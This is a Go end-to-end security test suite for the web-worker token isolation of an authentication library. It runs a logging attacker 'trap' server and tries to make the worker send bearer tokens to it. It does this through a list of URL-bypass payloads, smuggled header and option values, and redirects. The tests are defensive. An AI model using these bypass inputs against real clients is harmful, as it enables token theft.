package e2e

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/postern-auth/postern/tools/serve/stack"
)

// jobs have the worker do all that it can for a page: calls, a renewal, a replay of what was refused, UserInfo, a body.
const jobs = `(async () => {
	const me = t.settings.audience + '/me';
	await (await t.client.fetch(me)).json();
	await (await t.client.createFetcher({baseUrl: t.settings.issuer}).fetchWithAuth('/userinfo')).json();
	await (await t.client.fetch(new Request(me, {method: 'POST', body: 'x'}))).json();
	await t.client.fetchUserInfo();
	for (const call of ['getTokenSilently', 'getTokenWithPopup', 'exchangeToken']) await t.client[call]().catch(() => {});
	await t.client.generateDpopProof({url: me, method: 'GET'}).catch(() => {});
	await t.client.diagnose();
	return t.client.checkSession();
})()`

// With fetchInWorker neither token can be had: not from a page that was poisoned before Postern came or after it, not by a walk from the window, not from a
// store, not from the module's memory.
func TestAdversaryDelegated(t *testing.T) {
	eachBuild(t, func(t *testing.T, b build) {
		for _, poison := range []string{"before", "after", "never"} {
			v := target(t, b)
			v.Allow("the server responded with a status of 40")
			v.diagnosable()
			if poison == "before" {
				v.BeforeScripts(thief)
				v.open(home)
			}
			v.signIn(byWorker)
			if poison == "after" {
				v.Eval(thief)
			}
			v.Eval("void (globalThis.told = [], ['session', 'token', 'warning'].forEach((name) => t.client.on(name, (detail) => told.push(detail))))")
			v.Eval(jobs)
			age(v.app)
			v.Eval(jobs)
			v.stack.Faults().ExpireAccessTokens()
			v.Eval(jobs)
			assert.Equal(t, 2, v.refreshes())

			if poison == "never" {
				var reached []any
				v.Eval(walk, &reached)
				assert.Equal(t, true, reached[0])
				a, r := v.stolen(reached[1].(string))
				assert.Equal(t, []bool{false, false}, []bool{a, r})
			} else {
				access, refresh := v.places()
				assert.Empty(t, access)
				assert.Empty(t, refresh)
				assert.Contains(t, v.Text("loot.postMessage"), "Bearer ", "the thief sees what is asked of the worker")
				assert.Contains(t, v.Text("loot.MessageEvent"), "id_token", "and what it says")
			}
			a, r := v.stolen(v.Text("t.stored()") + v.Text("JSON.stringify([told, t.events, t.client.session()])"))
			assert.Equal(t, []bool{false, false}, []bool{a, r})
			assert.Equal(t, 200, v.call(http.Header{"Authorization": {"Bearer " + v.lastAccess()}}), "what wasn't found is worth something")
		}
	})
}

func (v *victim) lastAccess() string {
	access, _ := v.newest()
	return access
}

// trap is a server of the attacker's. It lets every page do everything, and remembers what comes.
type trap struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
}

func lure(t *testing.T) *trap {
	l := &trap{}
	l.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h := w.Header()
		h.Set("Access-Control-Allow-Origin", "*")
		h.Set("Access-Control-Allow-Headers", "Authorization, DPoP, Content-Type")
		h.Set("Access-Control-Allow-Methods", "*")
		l.mu.Lock()
		l.seen = append(l.seen, fmt.Sprint(r.Method, " ", r.URL, " ", r.Header))
		l.mu.Unlock()
	}))
	t.Cleanup(l.Close)
	return l
}

func (l *trap) requests() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.seen...)
}

// Whoever has the worker in hand can have requests sent to the origins that were named when it started, and to no other; and is never told a token.
func TestAdversaryDelegatedMessages(t *testing.T) {
	eachBuild(t, func(t *testing.T, b build) {
		evil, x := lure(t), &annex{}
		x.mux.HandleFunc("/annex/away", func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, evil.URL+"/redirected", http.StatusTemporaryRedirect)
		})
		x.mux.HandleFunc("/annex/here", func(http.ResponseWriter, *http.Request) {})
		v := target(t, b, func(c *stack.Config) {
			c.CSP = "script-src 'self' 'wasm-unsafe-eval'" // it isn't the page's policy that stops anything
			inner := c.Front
			c.Front = func(issuer http.Handler) http.Handler { return x.front(inner(issuer)) }
		})
		v.Allow("net::ERR_")
		v.Allow("CORS policy")
		v.Allow("the server responded with a status of")
		v.BeforeScripts(spy)
		v.open(home)
		v.signIn(byWorker)
		v.Eval("t.client.fetch(t.settings.issuer + '/annex/here').then((r) => r.status)")
		require.Len(t, x.requests(), 1)
		name := v.Text(`JSON.parse(spied.messages.find((m) => JSON.parse(m).send)).send.init.headers.find(([name]) => name === 'authorization')[1]`)
		access, _ := v.stolen(name)
		require.False(t, access)
		require.True(t, strings.HasPrefix(name, "Bearer ") && len(name) > 20, "a name")

		v.Eval(`{
			let n = 7000;
			globalThis.order = (send, more = {}) => new Promise((resolve) => {
				const { port1, port2 } = new MessageChannel(), at = n++;
				spied.workers[0].addEventListener('message', function hear({ data }) {
					if (data.n !== at) return;
					spied.workers[0].removeEventListener('message', hear);
					resolve(data.error ? 'error' : String(data.answer?.status ?? 'failed'));
				});
				spied.workers[0].postMessage({ n: at, send: send?.url !== undefined ? { stop: port2, ...send } : send, ...more }, [port2]);
			});
		}`)
		order := func(url, init string) string {
			return v.Text(fmt.Sprintf("order({url: %s, init: {headers: [['Authorization', '%s']], ...%s}})", url, name, init))
		}
		require.Equal(t, "200", order("t.settings.issuer + '/annex/here'", "{}"), "an attacker can use the token")
		sent := len(x.requests())
		for _, url := range []string{
			"EVIL", "EVIL + '/?' + t.settings.audience", "EVIL.replace('://', '://' + new URL(t.settings.audience).host + '@')", "EVIL + '#' + t.settings.issuer",
			"'//' + new URL(EVIL).host", "'\\\\\\\\' + new URL(EVIL).host", "EVIL.replace('//', '\\\\/')", "' ' + EVIL", "t.settings.issuer.replace('http:', 'https:')",
			"t.settings.issuer + '@' + new URL(EVIL).host", "t.settings.issuer.replace('localhost', 'localhost.')", "'data:,x'", "'blob:' + EVIL + '/x'", "'about:blank'", "''", "'null'",
			"[EVIL]", "{href: EVIL}", "7", "null",
		} {
			for _, init := range []string{"{}", "{mode: 'no-cors'}", "{method: 'POST', body: 'x', credentials: 'include'}"} {
				got := order(strings.ReplaceAll(url, "EVIL", "'"+evil.URL+"'"), init)
				assert.Contains(t, []string{"failed", "error"}, got, url+init)
			}
		}
		// The rest of a message names no address.
		for _, init := range []string{
			"{url: 'EVIL'}", "{referrer: 'EVIL'}", "{window: null, signal: null, dispatcher: 'EVIL', origin: 'EVIL', href: 'EVIL'}", "{headers: [['Authorization', 'Bearer x'], ['Host', 'EVIL']]}",
			"{headers: 'EVIL'}", "{headers: null}", "{headers: [['Authorization', 'undefined'], ['Authorization', '" + name + "']]}", "{headers: {authorization: ['x']}}", "{method: 'CONNECT'}", "{method: 'TRACE'}",
			"{body: {}, method: 'POST'}", "{mode: 'navigate'}",
		} {
			order("t.settings.issuer + '/annex/here'", strings.ReplaceAll(init, "EVIL", evil.URL))
		}
		for _, junk := range []string{"{url: new Map()}", "{}", "true", "'" + evil.URL + "'", "[]", "{url: t.settings.issuer, init: 5}", "{url: t.settings.issuer, init: {}, stop: null}", "{url: t.settings.issuer, init: {}, stop: 'x'}"} {
			v.Text("order(" + junk + ")")
		}
		for _, r := range x.requests()[sent:] {
			assert.Contains(t, []string{"", "Bearer " + v.lastAccess()}, r.Header.Get("Authorization"), "this token or none")
		}
		assert.Equal(t, "401", v.Text("order({url: t.settings.issuer + '/annex/here', init: {headers: [['Authorization', 'Bearer unknown']]}})"))
		assert.Equal(t, "401", v.Text("order({url: t.settings.issuer + '/annex/here', init: {}})"))
		assert.Empty(t, evil.requests())

		// A redirect away from an allowed origin is followed, as fetch does, without the token.
		order("t.settings.issuer + '/annex/away'", "{}")
		order("t.settings.issuer + '/annex/away'", "{method: 'POST', body: 'x'}")
		seen := strings.Join(evil.requests(), "\n")
		assert.Contains(t, seen, "/redirected")
		access, refresh := v.stolen(seen + v.Text("JSON.stringify(spied.messages)"))
		assert.Equal(t, []bool{false, false}, []bool{access, refresh})

		// A client of the attacker's that differs in an option has another worker, which holds nothing.
		v.Eval("t.lib.createClient(t.options({..." + byWorker + ", fetchInWorker: false})).then((c) => { t.theirs = c; })")
		v.fails("login_required", "t.theirs.getTokenSilently()")
		assert.Equal(t, "demo|alice", v.subject(), "nothing of it did any harm")
		v.Eval("t.client.fetch(t.settings.issuer + '/annex/here').then((r) => r.status)")
	})
}

// What nothing stops: an API that says what it was sent. It must be one that was named.
func TestAdversaryDelegatedEcho(t *testing.T) {
	eachBuild(t, func(t *testing.T, b build) {
		x := &annex{}
		x.mux.HandleFunc("/annex/headers", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, r.Header) })
		v := target(t, b, func(c *stack.Config) {
			inner := c.Front
			c.Front = func(issuer http.Handler) http.Handler { return x.front(inner(issuer)) }
		})
		v.signIn(byWorker)
		access, refresh := v.stolen(v.Text("t.client.fetch(t.settings.issuer + '/annex/headers').then((r) => r.text())"))
		assert.Equal(t, []bool{true, false}, []bool{access, refresh})
	})
}
